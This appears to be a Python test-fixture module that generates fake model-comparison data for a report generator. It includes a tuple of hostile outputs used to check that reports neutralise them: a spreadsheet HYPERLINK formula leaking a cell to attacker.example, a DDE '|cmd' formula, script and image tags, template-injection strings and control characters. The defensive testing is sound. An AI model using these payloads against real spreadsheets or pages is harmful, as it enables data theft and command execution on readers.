"""Believable texts for the fake comparisons of `builders`: one task each, and texts that attack whoever prints them."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from reportgen.domain.records.plan import CandidateKind, FieldType, Role, Task

HOSTILE = (
    '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
    "{=1+1}",
    "@SUM(1,2)|cmd|' /C calc'!A0",
    "<script>alert(1)</script><img src=http://attacker.example/p.png><b>bold</b>",
    "{{ 7*7 }} {% for x in y %} {# note #} </style>",
    "control \x00\x01\x1b[31m \x7f characters\tand a lone surrogate \ud83d end",
    "emoji 👩‍👩‍👧 🏳️‍🌈 and 漢字 and \u202eright-to-left override\u202c",
    "שלום עולם مرحبا بالعالم",
    "http://attacker.example/collect",
    "_x0041_ looks like an escape",
    "long " * 8000,
    "unbroken" * 5000,
)
"""Outputs that must be shown as text and do nothing, in every report."""


@dataclass(frozen=True, slots=True)
class Profile:
    """One fake candidate: how often it is right, how fast, what its tokens cost for a million, how often it fails."""

    name: str
    model: str
    kind: CandidateKind
    role: Role
    right: float
    latency_s: float
    prices: tuple[float, float] | None
    failing: float = 0.0
    invalid: float = 0.005
    retried: float = 0.02


PROFILES = (
    Profile("Kestrel 3 small", "kestrel-3-small", CandidateKind.API_MODEL, Role.CANDIDATE, 0.985, 0.62, (0.15, 0.6)),
    Profile("Production (Heron 2)", "heron-2", CandidateKind.API_MODEL, Role.PRODUCTION, 0.95, 1.4, (2.5, 10.0), 0.01),
    Profile("Ostrava <mini> & Co", "", CandidateKind.RECORDED_OUTPUTS, Role.CANDIDATE, 0.91, 0.9, (0.4, 1.6)),
    Profile("Unpriced newcomer", "newcomer-1", CandidateKind.API_MODEL, Role.CANDIDATE, 0.96, 1.1, None),
    Profile("Flaky host", "flaky-70b", CandidateKind.API_MODEL, Role.CANDIDATE, 0.9, 2.3, (0.2, 0.2), 0.12, 0.03, 0.3),
    Profile("Majority label", "majority", CandidateKind.LOCAL_BASELINE, Role.CANDIDATE, 0.3, 0.001, (0.0, 0.0)),
)

TITLES = {
    Task.CLASSIFICATION: ("Routing of customer e-mails", "Which model sorts incoming e-mails to the right team?"),
    Task.EXTRACTION: ("Key terms of supplier contracts", "Which model fills the contract register?"),
    Task.SUMMARIZATION: ("Summaries of incident reports", "Which model writes the morning summary?"),
    Task.QUESTION_ANSWERING: ("Answers from the staff handbook", "Which model answers staff questions?"),
}

LABELS = (
    "refund",
    "delivery",
    "complaint",
    "invoice",
    "cancellation",
    "address change",
    "warranty",
    "product question",
    "password",
    "praise",
    "spam",
    "data protection",
)

FIELDS = (
    ("Supplier", FieldType.NAME),
    ("Contract date", FieldType.DATE),
    ("Contract value", FieldType.MONEY),
    ("Auto renewal", FieldType.YES_NO),
    ("Notice period (days)", FieldType.NUMBER),
    ("Governing law", FieldType.CHOICE),
    ("Payment terms", FieldType.TEXT),
    ("Named contacts", FieldType.LIST),
)


def label_name(index: int) -> str:
    """Return the name of label `index`; long ones from the thirteenth on, as in a real list of 77 intents."""
    return LABELS[index] if index < len(LABELS) else f"{LABELS[index % len(LABELS)]} about a standing order {index:02d}"


def field_name(index: int) -> str:
    """Return the name of field `index`."""
    return FIELDS[index][0] if index < len(FIELDS) else f"Clause {index + 1}"


def _classification(number: int) -> str:
    return f"Dear team, order {4000 + number} still is not settled. Please see to it.\nKind regards, customer {number}"


def _extraction(number: int) -> str:
    return f"Agreement no. {number} between Aldermoor Ltd and supplier {number % 37}, dated 2026-03-{number % 27 + 1:02d}."


def _summarization(number: int) -> str:
    return f"Incident {number}: at 06:{number % 60:02d} the line stopped. Cause: a worn belt. Two people informed."


def _question(number: int) -> str:
    return f"How many days of leave does an employee in grade {number % 12} have after {number % 9} years?"


INPUTS: dict[Task, Callable[[int], str]] = {
    Task.CLASSIFICATION: _classification,
    Task.EXTRACTION: _extraction,
    Task.SUMMARIZATION: _summarization,
    Task.QUESTION_ANSWERING: _question,
}
